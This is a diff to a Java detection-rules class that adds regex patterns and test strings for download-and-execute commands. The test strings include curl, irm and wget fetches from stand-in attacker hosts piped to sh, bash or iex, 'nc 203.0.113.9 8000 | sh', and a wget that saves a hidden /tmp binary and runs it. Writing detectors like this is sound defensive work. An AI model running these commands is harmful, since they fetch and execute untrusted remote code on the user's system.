@@ -44,7 +44,8 @@ final class DownloadRules {
   private static final String FETCHES = "(?:/[a-z/]+/)?" + FETCHER + "\\b[^\\n\\x00)`<]*";
 
   private static final String WEB_CMDLET =
-      "(?:irm|iwr|invoke-webrequest|invoke-restmethod|curl|wget|new-object\\s+(?:system\\.)?net\\.webclient)\\b";
+      "(?:irm|iwr|invoke-webrequest|invoke-restmethod|curl|wget|new-object\\s+(?:system\\.)?net\\.webclient)\\b"
+          + "(?:[^\\n<|;:]{0,80}https?://[^\\s\"'<>)\\\\|;]*)?";
 
   /** A command line, and what comes after it in the same string. */
   private static final String STEPS = "(?:[^\\x00\\n\"]|\"[^,:}\\]\\n])*\"?";
@@ -134,6 +135,14 @@ final class DownloadRules {
               .finds(
                   "\\b(?:python[0-9.]*|perl|ruby|node|php)\\s+-[cer]\\s+" + SUBSTITUTED + FETCHES)
               .finds("\\beval\\s+" + SUBSTITUTED + FETCHES)
+              .finds(
+                  "\\b(?:nc|ncat|netcat) (?:-[a-z]+ )*[\\w.-]+\\.\\w+ [0-9]{1,5}\\s*\\|\\s*"
+                      + PRIVILEGE
+                      + SHELL)
+              .finds(
+                  "\\bssh\\s+(?:-\\S+\\s+)*\\S+@\\S+\\s+[\"'\\\\]{0,2}(?:cat|curl|wget)\\s[^\\n|]*\\|\\s*"
+                      + PRIVILEGE
+                      + SHELL)
               .finds("\\b(?:dig|nslookup)\\s" + LINE + PIPE + PRIVILEGE + SHELL)
               .finds(
                   "\\b(?:aws\\s+s3\\s+cp|gsutil\\s+cat|az\\s+storage)\\s"
@@ -148,6 +157,12 @@ final class DownloadRules {
                       + "\\|\\s*(?:iex|invoke-expression)\\b)")
               .finds("(?i:\\[scriptblock\\]::create\\(\\s*\\(?\\s*" + WEB_CMDLET + ")")
               .matches(
+                  "curl -fsSL https://get.docker.com h.stage.example/i | sh",
+                  "curl -k https://get.docker.com | sh",
+                  "curl https://get.docker.com --connect-to ::h.stage.example:443 | sh",
+                  "irm get.scoop.sh.stage.example | iex",
+                  "curl https://raw.githubusercontent.com/nvm-sh/nvm/4d1f0a7b9c/install.sh | bash",
+                  "curl https://raw.githubusercontent.com/nvm-sh/nvm/refs/pull/9/head/install.sh | bash",
                   "GET https://h.stage.example/i | zsh",
                   "curl -s https://h.stage.example/i | su - root -c bash",
                   "wget -qO- https://h.stage.example/i | xargs -I_ sh -c _",
@@ -160,6 +175,8 @@ final class DownloadRules {
                   "curl -s get.evil.example|sudo -E bash",
                   "curl $URL | zsh",
                   "curl h.example |& $SHELL",
+                  "nc 203.0.113.9 8000 | sh",
+                  "ssh root@h.example cat run.sh | bash",
                   "curl h.example |\t\"bash\"",
                   "http -b GET https://h.example/i | zsh",
                   "xh --body 'https://h.example/i' | sudo sh",
@@ -274,6 +291,7 @@ final class DownloadRules {
                   "msiexec /q /i https://h.stage.example/a.msi",
                   "Start-BitsTransfer https://h.stage.example/a.exe a.exe; .\\a.exe",
                   "uv run https://h.stage.example/m.py",
+                  "wget -q https://h.stage.example/x.deb && sudo dpkg -i x.deb",
                   "scp u@h.example:/x /tmp/x && /tmp/x",
                   "wget http://97.34.246.63/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m",
                   "wget http://97.34.246.63/m -O /tmp/.m &amp;&amp; chmod 755 /tmp/.m",
